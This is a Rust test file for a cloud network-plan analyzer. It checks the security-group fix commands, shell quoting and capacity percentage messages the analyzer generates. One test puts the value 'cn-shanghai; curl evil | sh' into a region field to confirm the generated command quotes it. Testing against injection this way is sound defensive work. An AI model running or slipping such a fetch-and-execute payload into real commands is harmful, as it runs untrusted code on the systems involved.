//! The fixes and commands the analyzer hands out do what they say.

use easnet_core::analyze::{analyze, Finding, Report};
use easnet_core::plan::{parse_plan, EgressRule, Plan, Policy, Protocol};

fn healthy() -> Plan {
    parse_plan(include_str!("../../../examples/healthy.json")).unwrap()
}

/// The report's first finding with `code`, about `subject` when given.
fn finding<'r>(report: &'r Report, code: &str, subject: Option<&str>) -> &'r Finding {
    (report.findings.iter())
        .find(|f| f.code == code && subject.is_none_or(|s| f.subject == s))
        .unwrap_or_else(|| panic!("no {code} about {subject:?}: {:?}", report.codes()))
}

fn drop_https(priority: i64) -> EgressRule {
    EgressRule {
        policy: Policy::Drop,
        priority,
        protocol: Protocol::Tcp,
        port_range: Some("443/443".into()),
        destination: "0.0.0.0/0".into(),
    }
}

#[test]
fn sg001_accepts_with_a_number_that_beats_the_drop_rule() {
    let mut plan = healthy();
    plan.vpcs[0].security_groups[0].egress = vec![drop_https(5)];
    let report = analyze(&plan);
    let f = finding(&report, "SG001", None);
    let cmd = f.command.as_deref().unwrap();
    assert!(cmd.ends_with("--Policy accept --Priority 4"), "{cmd}");
    assert!(
        cmd.contains("--PortRange 443/443 --DestCidrIp 0.0.0.0/0"),
        "{cmd}"
    );
}

#[test]
fn sg001_against_a_priority_1_drop_says_to_narrow_it_not_to_add_a_losing_rule() {
    let mut plan = healthy();
    plan.vpcs[0].security_groups[0].egress = vec![drop_https(1)];
    let report = analyze(&plan);
    let f = finding(&report, "SG001", None);
    assert_eq!(f.command, None);
    assert!(
        f.fix.contains("priority 1") && f.fix.contains("narrow"),
        "{}",
        f.fix
    );
}

#[test]
fn commands_quote_what_the_plan_says() {
    let mut plan = healthy();
    plan.region = Some("cn-shanghai; curl evil | sh".into());
    plan.vpcs[0].nat_gateways[0].snat_entries.pop();
    let report = analyze(&plan);
    let f = finding(&report, "INET004", None);
    let cmd = f.command.as_deref().unwrap();
    assert!(
        cmd.contains("--RegionId 'cn-shanghai; curl evil | sh'"),
        "{cmd}"
    );
}

#[test]
fn cap002_never_reads_as_equal_percentages() {
    let mut plan = healthy();
    // 202 of 252 usable (80.2%) against 80%: over, but both round to 80%.
    plan.vpcs[0].vswitches[0].other_ips = 202;
    let report = analyze(&plan);
    let f = finding(&report, "CAP002", Some("vsw-uf6app-b"));
    assert!(f.message.ends_with("80.2% > 80.0%"), "{}", f.message);
    assert!(report
        .capacity
        .iter()
        .any(|r| r.vswitch == "vsw-uf6app-b" && r.warn));

    // A /16: 52,426 of 65,532 usable is 80.0006%, over 80% but equal to two decimals too.
    plan.vpcs[0].vswitches[0].cidr = "192.168.0.0/16".into();
    plan.vpcs[0].vswitches[0].other_ips = 52_426;
    plan.vpcs[0].cidrs = vec!["192.168.0.0/16".into()];
    let report = analyze(&plan);
    let f = finding(&report, "CAP002", Some("vsw-uf6app-b"));
    assert!(f.message.ends_with("80.001% > 80.000%"), "{}", f.message);
}
